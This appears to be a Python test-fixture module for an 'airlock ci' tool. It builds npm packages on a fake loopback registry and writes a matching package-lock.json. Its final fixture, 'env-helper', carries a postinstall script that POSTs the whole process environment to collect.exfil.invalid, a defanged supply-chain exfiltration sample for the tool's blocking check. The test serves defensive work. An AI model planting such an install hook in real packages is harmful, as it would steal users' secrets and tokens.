"""Projects for the `airlock ci` tests: packages built from source text, published on the loopback fake
registry, and a package-lock.json (v3) pointing at its URLs, as npm would write it."""

from __future__ import annotations

import hashlib
import json
import os
from collections.abc import Mapping
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

from tests.fakes.registry import FakeRegistry
from tests.fakes.tarballs import build_package

OLD = datetime.now(UTC) - timedelta(days=100)


@dataclass(frozen=True, slots=True)
class Dep:
    name: str
    version: str
    files: Mapping[str, str]
    dependencies: Mapping[str, str] | None = None
    scripts: Mapping[str, str] | None = None


def publish(registry: FakeRegistry, dep: Dep) -> None:
    extra: dict[str, object] = {}
    if dep.dependencies:
        extra["dependencies"] = dict(dep.dependencies)
    if dep.scripts:
        extra["scripts"] = dict(dep.scripts)
    registry.publish(
        dep.name,
        dep.version,
        build_package(dep.name, dep.version, dict(dep.files), **extra),
        manifest=extra,
        time=OLD,
    )


def write_project(root: Path, registry: FakeRegistry, deps: list[Dep], *, top: list[str]) -> None:
    """package.json depending on `top` (names), and a flat lockfile for every dep (all hoisted)."""
    root.mkdir(parents=True, exist_ok=True)
    versions = {d.name: d.version for d in deps}
    wanted = {name: f"^{versions[name]}" for name in top}
    (root / "package.json").write_text(
        json.dumps({"name": "app", "version": "1.0.0", "dependencies": wanted}, indent=2) + "\n"
    )
    packages: dict[str, object] = {"": {"name": "app", "version": "1.0.0", "dependencies": wanted}}
    for dep in deps:
        dist = registry.packument(dep.name)["versions"][dep.version]["dist"]
        entry: dict[str, object] = {
            "version": dep.version,
            "resolved": dist["tarball"],
            "integrity": dist["integrity"],
        }
        if dep.dependencies:
            entry["dependencies"] = dict(dep.dependencies)
        if dep.scripts and any(k in dep.scripts for k in ("preinstall", "install", "postinstall")):
            entry["hasInstallScript"] = True
        packages[f"node_modules/{dep.name}"] = entry
    lock = {"name": "app", "version": "1.0.0", "lockfileVersion": 3, "requires": True, "packages": packages}
    (root / "package-lock.json").write_text(json.dumps(lock, indent=2) + "\n")


def tree_hash(root: Path) -> str:
    """Every path under `root` with its type, mode and contents (symlinks by target): equal hashes, equal
    trees."""
    digest = hashlib.sha256()
    if not root.exists():
        return "absent"
    for directory, dirs, files in os.walk(root):
        dirs.sort()
        for name in sorted(dirs + files):
            path = Path(directory) / name
            relative = path.relative_to(root).as_posix()
            stat = path.lstat()
            digest.update(f"{relative}\0{stat.st_mode:o}\0".encode())
            if path.is_symlink():
                digest.update(str(path.readlink()).encode())
            elif path.is_file():
                digest.update(path.read_bytes())
    return digest.hexdigest()


WRAPPY = Dep("wrappy", "1.0.2", {"index.js": "module.exports = function wrappy (fn) { return fn }\n"})
ONCE = Dep(
    "once",
    "1.4.0",
    {
        "index.js": "var wrappy = require('wrappy')\nmodule.exports = wrappy(function once (fn) { return fn })\n"
    },
    dependencies={"wrappy": "1"},
)

# A defanged replica: a postinstall sending the environment to a host under .invalid (blocked by the check).
EXFIL = Dep(
    "env-helper",
    "1.0.1",
    {
        "index.js": "module.exports = {}\n",
        "install.js": (
            "const https = require('https')\n"
            "const req = https.request({ hostname: 'collect.exfil.invalid', path: '/e', method: 'POST' })\n"
            "req.end(JSON.stringify(process.env))\n"
        ),
    },
    scripts={"postinstall": "node install.js"},
)
